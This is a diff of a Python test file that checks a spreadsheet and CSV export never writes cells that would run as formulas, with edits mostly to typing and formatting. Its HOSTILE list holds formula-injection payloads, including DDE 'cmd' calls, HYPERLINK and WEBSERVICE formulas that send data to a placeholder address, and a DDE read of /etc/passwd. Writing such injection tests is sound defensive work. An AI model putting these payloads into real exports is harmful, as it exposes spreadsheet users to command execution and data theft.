@@ -34,7 +34,7 @@ HOSTILE = (
     "=1+1", "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"here\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3", "-cmd|'x'!A0",
     "@SUM(1+1)*cmd|'x'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1",
     "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201+1", '"=1+1', '"",=1+1', '";=1+1', "x;=1+1", "x,=1+1", "x\t=1+1", "x\n=1+1",
-    "x\r\n=1+1", "';=1+1", "'", "=", "{=1+1}", "\u2212" "2+3", "%=1+1", "1;=1+1;2", 'x;"=1+1"', 'x; "" =1+1;', "x;'=1+1", "x;;=1+1;", '";"=1+1";"', '=1+1;', "x; @SUM(1);", "=WEBSERVICE(\"http://192.0.2.1/\")",
+    "x\r\n=1+1", "';=1+1", "'", "=", "{=1+1}", "\u22122+3", "%=1+1", "1;=1+1;2", 'x;"=1+1"', 'x; "" =1+1;', "x;'=1+1", "x;;=1+1;", '";"=1+1";"', '=1+1;', "x; @SUM(1);", "=WEBSERVICE(\"http://192.0.2.1/\")",
     "=DDE(\"soffice\";\"/etc/passwd\";\"a1\")", "\x00=1+1", "\x0b=1+1", "\x85=1+1", "\u2028=1+1",
 )  # fmt: skip
 
@@ -64,7 +64,7 @@ def _written(lines: Iterator[str]) -> str:
 @pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
 def test_no_cell_is_a_formula(tmp_path: Path, way: str | None) -> None:
     plain = "".join('"' + one.replace('"', '""') + '",1\r\n' for one in HOSTILE if "'" not in one)
-    rows = [*([one, -1] for one in HOSTILE), *(["x", [one, one]] for one in HOSTILE)]
+    rows: list[tuple[object, object]] = [(one, -1) for one in HOSTILE] + [("x", [one, one]) for one in HOSTILE]
     raw, cells = _opened(tmp_path, way, plain, _written(sheet.lines(("value", "another"), rows)))
     assert any(formula for formula, _ in raw), "these would be, as they are"
     assert [(formula, text) for formula, text in cells if formula] == []
@@ -77,7 +77,9 @@ def test_what_is_written_of_a_hostile_capture_and_log(tmp_path: Path) -> None:
     Tcp(recording, "10.0.0.1", 50001, "10.0.0.2", 49670).syns()
     (tmp_path / "=1+1.pcapng").write_bytes(recording.pcapng())
     rows = logs.tmg_header(START) + "".join(
-        logs.tmg(START, "10.0.0.1:50001", "10.0.0.2:49670", ("Internal", "=2+2"), "Denied", "0xc004000d", one, service=one)
+        logs.tmg(
+            START, "10.0.0.1:50001", "10.0.0.2:49670", ("Internal", "=2+2"), "Denied", "0xc004000d", one, service=one
+        )
         for one in HOSTILE
         if not set(one) & set("\t\r\n\x0b\x85\u2028")
     )
